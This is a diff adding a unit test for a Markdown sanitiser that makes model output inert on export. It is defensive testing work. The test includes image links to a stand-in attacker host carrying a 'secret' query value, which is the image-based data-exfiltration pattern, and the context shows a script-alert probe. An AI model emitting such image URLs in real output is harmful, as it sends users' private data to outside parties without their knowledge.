@@ -36,6 +36,15 @@ describe('inertMarkdown (what the Markdown export does to model text)', () => {
     expect(out).toMatch(/\[markdown js link\]\(\)/);
   });
 
+  it('turns images into links, so no viewer of the export fetches them unasked', () => {
+    const out = inertMarkdown('See ![the chart](https://attacker.example/leak?q=secret) and ![ref][r].\n\n[r]: https://attacker.example/r.png');
+    const images: string[] = [];
+    visit(parse(out), (node: Nodes) => void ((node.type === 'image' || node.type === 'imageReference') && images.push(node.type)));
+    expect(images).toEqual([]);
+    expect(out).toContain('[image: the chart](https://attacker.example/leak?q=secret)');
+    expect(out).toContain('[image: ref][r]');
+  });
+
   it('leaves code alone: HTML inside code is already inert', () => {
     const text = 'Use `<div onclick=x>` like this:\n\n```html\n<script>alert(1)</script>\n```';
     expect(inertMarkdown(text)).toBe(text);
